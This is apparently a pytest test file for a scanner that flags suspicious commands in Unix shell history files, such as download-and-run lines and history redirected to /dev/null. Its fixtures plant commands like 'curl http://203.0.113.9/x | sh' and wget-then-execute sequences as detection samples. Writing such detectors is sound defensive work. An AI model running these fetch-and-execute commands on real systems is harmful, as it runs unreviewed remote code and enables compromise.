from __future__ import annotations

import errno
import os
from pathlib import Path

import pytest

from tables.accounts.shell_history_findings import ShellHistoryFinding, shell_history_findings
from tables.host import Host
from tables.host.disk.files import Files, Unreadable
from tables.schema import QueryContext
from tests.support.planted_files import link, plant

PASSWD = """root:x:0:0::/root:/bin/bash
bin:x:2:2::/:/usr/sbin/nologin
op:x:1000:1000::/home/op:/bin/bash
twin:x:1001:1001::/home/op:/bin/bash
"""


def scan(root: Path, budget_seconds: float = 20.0) -> tuple[list[ShellHistoryFinding], tuple[str, ...], str | None]:
    plant(root, "/etc/passwd", PASSWD)
    host, query = Host(str(root)), QueryContext(budget_seconds=budget_seconds)
    rows = list(shell_history_findings.generate(host, query))
    return rows, query.unseen, query.truncated


def test_a_row(tmp_path: Path) -> None:
    plant(tmp_path, "/home/op/.bash_history", "ls\n#1795400000\ncurl -u op:hunter2 http://203.0.113.9/x.sh | bash\n")
    rows, degraded, truncated = scan(tmp_path)
    assert rows == [
        ShellHistoryFinding(
            path="/home/op/.bash_history",
            line=3,
            username="op",
            entered_at=1795400000,
            command="curl -u op:*** http://203.0.113.9/x.sh | bash",
            download_host="203.0.113.9",
            download_by_address=True,
            reasons="download_and_run",
        )
    ]
    assert (degraded, truncated) == ((), None)


def test_every_shell_of_every_account(tmp_path: Path) -> None:
    command = "curl http://203.0.113.9/x | sh"
    for path in ("/root/.bash_history", "/root/.ash_history", "/.sh_history", "/home/op/.zsh_history"):
        plant(tmp_path, path, command + "\n")
    plant(tmp_path, "/root/.local/share/fish/fish_history", f"- cmd: {command}\n  when: 1795400000\n")
    rows, _, _ = scan(tmp_path)
    assert {(row.path, row.username) for row in rows} == {
        ("/root/.bash_history", "root"),
        ("/root/.ash_history", "root"),
        ("/root/.local/share/fish/fish_history", "root"),
        ("/.sh_history", "bin"),
        ("/home/op/.zsh_history", "op"),
    }


def found(tmp_path: Path, text: str) -> list[tuple[int, str, str | None, int]]:
    plant(tmp_path, "/root/.bash_history", text)
    return [(row.line, row.reasons, row.download_host, row.download_by_address) for row in scan(tmp_path)[0]]


def test_what_is_fetched_and_run_later(tmp_path: Path) -> None:
    assert found(tmp_path, "id\nwget http://203.0.113.9/k\nchmod +x k\nls\n./k\n") == [
        (2, "download_and_run", "203.0.113.9", True)
    ]
    assert found(tmp_path, "wget https://example.org/k.tgz\ntar xf k.tgz\ncd k\nmake\n./k\n") == []
    assert found(tmp_path, "wget http://203.0.113.9/k.tgz\ntar xf k.tgz\ncd k\n./k\n") == [
        (1, "download_and_run", "203.0.113.9", True)
    ]
    assert found(tmp_path, "wget http://203.0.113.9/k\n" + "ls\n" * 20 + "./k\n") == []


def test_where_it_comes_from(tmp_path: Path) -> None:
    for text, host, is_outside in (
        ("curl https://sh.rustup.rs -sSf | sh", "sh.rustup.rs", False),
        ("curl http://10.0.0.5/x | sh", "10.0.0.5", False),
        ("curl http://[2001:db8::1]/x | sh", "[2001:db8::1]", True),
        ("curl http://bob:pw@203.0.113.9:8080/x | sh", "203.0.113.9", True),
        ("curl 203.0.113.9/x | sh", "203.0.113.9", True),
        ("curl http://999.1.1.1/x | sh", "999.1.1.1", False),
    ):
        assert found(tmp_path, text) == [(1, "download_and_run", host, is_outside)], text


def test_ordinary_histories_give_nothing(tmp_path: Path) -> None:
    assert found(tmp_path, "ls\nps aux | grep xmrig\ncurl -O https://example.org/a.tgz\nkubectl get secret x | base64 -d\n") == []


def test_hostile_histories(tmp_path: Path) -> None:
    plant(tmp_path, "/root/.bash_history", b"\xff\0\x1b[2K curl http://203.0.113.9/x | sh\n" + b"a" * 2_000_000 + b"\n")
    os.mkfifo(tmp_path / "root/.zsh_history")
    (tmp_path / "root/.ash_history").symlink_to("/dev/null")
    plant(tmp_path, "/home/op/.bash_history", "curl http://203.0.113.9/x | sh\n" * 1200)
    rows, degraded, truncated = scan(tmp_path)
    # The link is one of them.
    assert len(rows) == 1002
    assert all(len(row.command) <= 4096 and row.to_wire().get("command", "").isprintable() for row in rows)
    assert any(".zsh_history: not a regular file" in text for text in degraded)
    assert truncated == "/home/op/.bash_history: only 1000 suspicious commands are given"


def test_a_home_out_of_reach_is_one_problem(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plant(tmp_path, "/home/op/.bash_history", "curl http://203.0.113.9/x | sh\n")
    read = Files.read

    def refuse(files: Files, path: str, limit: int = 0) -> bytes:
        if path.startswith("/root/"):
            raise Unreadable(path, "Permission denied", errno.EACCES)
        return read(files, path, limit or 4096)

    monkeypatch.setattr(Files, "read", refuse)
    rows, degraded, _ = scan(tmp_path)
    assert [row.username for row in rows] == ["op"]
    assert degraded == ("the shell histories of root: /root/.bash_history: Permission denied",)


def test_this_host_is_read() -> None:
    assert all(row.reasons and len(row.command) <= 4096 for row in shell_history_findings.generate(Host(), QueryContext()))


def test_a_padded_history_does_not_blind_the_others(tmp_path: Path) -> None:
    plant(tmp_path, "/root/.bash_history", "curl -O https://example.org/a && ls | sort\n" * 25_000)
    plant(tmp_path, "/home/op/.bash_history", "curl http://203.0.113.9/x | sh\n")
    rows, _, truncated = scan(tmp_path, budget_seconds=4.0)
    assert [row.username for row in rows] == ["op"]
    assert truncated is not None and truncated.startswith("/root/.bash_history: ")


def test_a_history_that_leads_nowhere_is_a_row(tmp_path: Path) -> None:
    plant(tmp_path, "/home/op/.zsh_history", "ls\n")
    link(tmp_path, "/dev/null", "/home/op/.bash_history")
    plant(tmp_path, "/root/.hist", "ls\n")
    link(tmp_path, ".hist", "/root/.bash_history")
    rows, unseen, _ = scan(tmp_path)
    assert [(row.path, row.line, row.username, row.reasons) for row in rows] == [
        ("/home/op/.bash_history", 0, "op", "history_switched_off")
    ]
    assert unseen == ()
